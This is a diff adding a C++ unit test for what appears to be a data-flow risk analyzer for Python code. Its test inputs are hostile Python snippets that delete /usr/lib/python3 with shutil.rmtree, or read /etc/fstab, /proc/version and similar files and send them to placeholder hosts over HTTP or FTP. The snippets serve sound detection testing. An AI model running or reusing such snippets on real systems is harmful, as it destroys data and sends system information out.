@@ -129,3 +129,31 @@ TEST(AssessDataFlow, ARoundTripOfItsOwnObjectsIsNoPayload) {
             RiskLevel::low);
   EXPECT_EQ(level("import sys, timeit\nprint(timeit.timeit(sys.argv[1]))\n"), RiskLevel::high);
 }
+
+TEST(AssessDataFlow, HelpersDefaultsItemsAndFilesWrittenOnTheWay) {
+  // A helper given a system path destroys it.
+  EXPECT_EQ(level("import shutil\ndef purge(p):\n    shutil.rmtree(p, ignore_errors=True)\npurge('/usr/lib/python3')\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("import shutil\ndef purge(p):\n    shutil.rmtree(p, ignore_errors=True)\npurge('build')\n"),
+            RiskLevel::medium);
+  // A default path, read by a call without the argument.
+  EXPECT_EQ(level("import requests\ndef release(path='/etc/os-release'):\n    return open(path).read()\n"
+                  "requests.post('https://x.example/i', json={'r': release()})\n"),
+            RiskLevel::high);
+  // Stored into a dict item, then sent.
+  EXPECT_EQ(level("import requests\nfacts = {}\nfacts['kernel'] = open('/proc/version').read()\n"
+                  "requests.post('https://x.example/f', json=facts)\n"),
+            RiskLevel::high);
+  // Copied or written to a local file first, then uploaded from it.
+  EXPECT_EQ(level("import ftplib, shutil\nshutil.copyfile('/etc/fstab', 'f.txt')\nftp = ftplib.FTP('h.example')\n"
+                  "with open('f.txt', 'rb') as fh:\n    ftp.storbinary('STOR f', fh)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import json, requests\nhw = {'v': open('/sys/class/dmi/id/sys_vendor').read()}\n"
+                  "with open('hw.json', 'w') as out:\n    json.dump(hw, out)\n"
+                  "requests.post('https://x.example/r', data=open('hw.json', 'rb'))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import json, requests\nhw = {'v': 1}\nwith open('hw.json', 'w') as out:\n    json.dump(hw, out)\n"
+                  "requests.post('https://x.example/r', data=open('hw.json', 'rb'))\n"),
+            RiskLevel::medium);
+}
+
